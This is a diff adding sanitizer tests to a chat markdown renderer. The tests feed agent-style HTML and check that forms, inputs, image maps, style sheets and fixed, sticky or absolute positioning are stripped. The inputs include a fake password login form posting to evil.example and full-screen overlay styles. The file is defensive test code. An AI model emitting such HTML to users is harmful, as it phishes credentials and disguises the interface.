@@ -9,7 +9,7 @@ import { WorkspaceService } from '@theia/workspace/lib/browser/workspace-service
 import { MarkdownChatResponseContentImpl } from '@theia/ai-chat/lib/common/chat-model';
 import { MarkdownPartRenderer } from '@theia/ai-chat-ui/lib/browser/chat-response-renderer/markdown-part-renderer';
 import { AcpMarkdownPart } from './markdown-parts';
-import { AcpMarkdownRenderer, MARKDOWN_CHARS_PER_FRAME, MarkdownRenderBudget } from './markdown-renderer';
+import { AcpMarkdownRenderer, MARKDOWN_CHARS_PER_FRAME, MarkdownRenderBudget, renderChatMarkdown } from './markdown-renderer';
 import { manualFrames } from '../../test/manual-frames';
 
 // eslint-disable-next-line @typescript-eslint/no-require-imports
@@ -123,5 +123,45 @@ describe('AcpMarkdownRenderer (one markdown-it for all parts)', () => {
         await act(async () => frames.frame());
         const { host: big } = await renderedHtml(ours.render(new AcpMarkdownPart('x'.repeat(3 * MARKDOWN_CHARS_PER_FRAME))));
         assert.equal(big.querySelectorAll('p').length, 1);
+    });
+});
+
+describe('renderChatMarkdown: what an agent\'s HTML may not do (issue 29 part 3)', () => {
+    const html = (markdown: string) => {
+        const host = document.createElement('div');
+        host.appendChild(renderChatMarkdown(markdown, () => undefined));
+        return host;
+    };
+
+    it('drops forms and their fields, buttons, image maps and style sheets, keeping their text', () => {
+        const host = html([
+            '<form action="https://evil.example/login" method="post"><label>Password <input type="password" name="p"></label>',
+            '<select name="s"><option>one</option></select><textarea name="t">note</textarea><button type="submit">Sign in</button></form>',
+            '<img alt="map" usemap="#m"><map name="m"><area shape="rect" coords="0,0,9,9" href="https://evil.example"></map>',
+            '<style>body::after { content: "x"; position: fixed; inset: 0 }</style>'
+        ].join(''));
+        for (const tag of ['form', 'input', 'button', 'select', 'textarea', 'option', 'map', 'area', 'style']) {
+            assert.equal(host.querySelector(tag), null, `no <${tag}>: ${host.innerHTML}`);
+        }
+        assert.ok(host.textContent!.includes('Sign in'));
+        assert.ok(host.textContent!.includes('Password'));
+    });
+
+    it('takes fixed, sticky and any other positioning out of inline styles however it is written, keeping the rest', () => {
+        const host = html([
+            '<div id="a" style="position:fixed; inset:0; z-index:99999; color: red">over everything</div>',
+            '<div id="b" style="POSITION: Sticky !important">sticky</div>',
+            '<div id="c" style="position: /* x */ fixed">comment</div>',
+            '<span id="d" style="position:absolute">absolute</span>',
+            '<p id="e" style="color: blue">kept</p>'
+        ].join('\n\n'));
+        for (const id of ['a', 'b', 'c', 'd']) {
+            const element = host.querySelector<HTMLElement>(`#${id}`)!;
+            assert.equal(element.style.position, '', `#${id}: ${element.outerHTML}`);
+            assert.ok(!/position/i.test(element.getAttribute('style') ?? ''), element.outerHTML);
+        }
+        assert.equal(host.querySelector<HTMLElement>('#a')!.style.color, 'red');
+        assert.equal(host.querySelector<HTMLElement>('#b')!.getAttribute('style'), null, 'an emptied style goes');
+        assert.equal(host.querySelector<HTMLElement>('#e')!.style.color, 'blue');
     });
 });
